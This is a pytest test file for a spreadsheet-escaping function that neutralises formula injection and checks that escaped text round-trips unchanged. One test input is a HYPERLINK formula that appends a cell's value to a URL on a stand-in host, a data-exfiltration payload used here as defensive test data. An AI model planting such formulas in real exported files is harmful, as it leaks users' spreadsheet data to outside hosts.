"""What is written for spreadsheets is data, and comes back as it was."""

import pytest

from tff_partial.analysis import spreadsheets

_LINK = '=HYPERLINK("http://example.org/?" & A1, "film")'


@pytest.mark.parametrize(
  'text', [_LINK, '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '-']
)
def test_formulas_are_marked_as_texts(text):
  assert spreadsheets.escaped(text) == f"'{text}"


@pytest.mark.parametrize(
  'text', ['Heat', '', '-1', '+2.5e-3', '-.5', 'a=b', "'Round Midnight", '8½']
)
def test_all_else_stays(text):
  assert spreadsheets.escaped(text) == text


@pytest.mark.parametrize('text', [_LINK, "'=1", "''=1", "'Round", '-1', 'Heat'])
def test_what_was_written_is_read_again(text):
  assert spreadsheets.unescaped(spreadsheets.escaped(text)) == text
